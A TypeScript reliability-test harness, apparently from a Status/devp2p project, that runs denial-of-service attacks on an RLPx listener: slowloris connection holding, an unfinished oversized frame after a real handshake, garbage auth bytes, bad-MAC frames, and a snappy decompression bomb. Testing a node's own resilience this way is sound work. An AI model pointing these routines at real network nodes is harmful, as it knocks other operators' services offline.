import net from 'node:net';
import { generatePrivateKey, getPublicKey, randomBytes } from '@status-ts/crypto';
import { ByteQueue, encodeHello, FrameEncoder, InitiatorHandshake } from '@status-ts/devp2p';
import { runChild } from '../child.js';

/**
 * Raw-socket attacks on an RLPx listener, from `localAddress` (an address of its own in 127.0.0.0/8):
 * - `slowloris` (item 3): keeps `sockets` silent connections open, opening a new one as soon as one closes;
 * - `preHello` (item 4): completes the encryption handshake, then sends one valid frame header declaring a
 *   frame of `frameSize` bytes and filler, never the whole body, on `sockets` connections at once;
 * - `garbage`: random bytes instead of an auth message;
 * - `badMac`: a completed handshake followed by frames whose MACs are wrong;
 * - `snappyBomb`: a completed handshake and Hello (snappy on), then a capability message whose snappy body
 *   declares a 100 MiB decompressed size in a few bytes.
 * Each runs until the parent's `stop` or `durationMs`, then emits what it did.
 */
export interface RlpxRawConfig {
  readonly mode: 'slowloris' | 'preHello' | 'garbage' | 'badMac' | 'snappyBomb';
  readonly host: string;
  readonly port: number;
  /** Node id (hex) of the victim, for the handshake. */
  readonly nodeId: string;
  /** Source address of each lane, in turn (one address, or many to look like many hosts). */
  readonly localAddress: string | readonly string[];
  readonly sockets: number;
  /** Pause before a lane opens its next connection (keeps a refused attacker's loop bounded). */
  readonly reopenDelayMs?: number;
  readonly durationMs: number;
  readonly frameSize?: number;
}

interface Tally {
  opened: number;
  closedByVictim: number;
  bytesSent: number;
  handshakes: number;
}

function open(config: RlpxRawConfig, lane: number): net.Socket {
  const addresses = typeof config.localAddress === 'string' ? [config.localAddress] : config.localAddress;
  const localAddress = addresses[lane % addresses.length]!;
  const socket = net.connect({ host: config.host, port: config.port, localAddress });
  socket.on('error', () => undefined);
  return socket;
}

/** Completes the auth/ack exchange on `socket`; resolves with a frame encoder for the session. */
function handshake(socket: net.Socket, nodeId: string, privateKey: Uint8Array): Promise<FrameEncoder> {
  const initiator = new InitiatorHandshake(privateKey, Buffer.from(nodeId, 'hex'));
  const queue = new ByteQueue();
  return new Promise((resolve, reject) => {
    const onData = (chunk: Buffer) => {
      queue.push(new Uint8Array(chunk));
      try {
        const secrets = initiator.readAck(queue);
        if (!secrets) return;
        socket.off('data', onData);
        resolve(FrameEncoder.fromSecrets(secrets));
      } catch (error) {
        reject(error);
      }
    };
    socket.on('data', onData);
    socket.once('close', () => reject(new Error('closed during handshake')));
    socket.once('connect', () => socket.write(initiator.authPacket));
  });
}

async function oneConnection(
  config: RlpxRawConfig,
  lane: number,
  tally: Tally,
  until: number,
): Promise<void> {
  const socket = open(config, lane);
  tally.opened++;
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  const write = (bytes: Uint8Array) => {
    tally.bytesSent += bytes.length;
    socket.write(bytes);
  };
  try {
    if (config.mode === 'garbage') {
      socket.once('connect', () => write(randomBytes(1024)));
    } else if (config.mode === 'preHello' || config.mode === 'badMac' || config.mode === 'snappyBomb') {
      // Our key: the handshake proves it, and a Hello must carry its public key.
      const privateKey = generatePrivateKey();
      const encoder = await handshake(socket, config.nodeId, privateKey);
      tally.handshakes++;
      if (config.mode === 'preHello') {
        // A valid header for a big frame, then filler up to a few bytes short of its end, in 64 KiB writes.
        // The largest frame a header can declare: 2^24 - 1 bytes of rlp(code) and payload.
        const frame = encoder.encode(0, new Uint8Array(Math.min(config.frameSize ?? 2 ** 24, 2 ** 24) - 2));
        write(frame.subarray(0, 32));
        for (let at = 32; at < frame.length - 64 && !socket.destroyed; at += 65_536) {
          write(frame.subarray(at, Math.min(at + 65_536, frame.length - 64)));
          await new Promise((resolve) => setImmediate(resolve));
        }
      } else if (config.mode === 'snappyBomb') {
        const hello = encodeHello({
          protocolVersion: 5,
          clientId: 'reliability/snappy-bomb',
          capabilities: [{ name: 'waku', version: 1 }],
          listenPort: 0,
          nodeId: getPublicKey(privateKey, 'raw'),
        });
        write(encoder.encode(0, hello));
        // Snappy: a varint length of 100 MiB, then a literal of 4 bytes; the first waku code (0x10).
        write(encoder.encode(0x10, Uint8Array.of(0x80, 0x80, 0x80, 0x32, 0x0c, 1, 2, 3, 4)));
      } else {
        const frame = encoder.encode(0, randomBytes(100));
        frame[frame.length - 1]! ^= 1;
        write(frame);
      }
    }
  } catch {
    // The victim closing on us mid-handshake is part of what is measured.
  }
  const timeout = new Promise<'timeout'>((resolve) =>
    setTimeout(() => resolve('timeout'), until - Date.now()),
  );
  if ((await Promise.race([closed.then(() => 'closed' as const), timeout])) === 'closed')
    tally.closedByVictim++;
  socket.destroy();
}

await runChild<RlpxRawConfig>(async ({ config, emit, handle }) => {
  const tally: Tally = { opened: 0, closedByVictim: 0, bytesSent: 0, handshakes: 0 };
  let stopped = false;
  handle('stop', () => {
    stopped = true;
    return tally;
  });
  const until = Date.now() + config.durationMs;
  const lane = async (_: unknown, index: number) => {
    // Re-open as soon as the victim closes, until the time is up (slowloris keeps its slots taken).
    while (!stopped && Date.now() < until) {
      await oneConnection(config, index, tally, until);
      await new Promise((resolve) => setTimeout(resolve, config.reopenDelayMs ?? 10));
    }
  };
  void Promise.all(Array.from({ length: config.sockets }, lane)).then(() => emit({ type: 'done', ...tally }));
  return {};
});
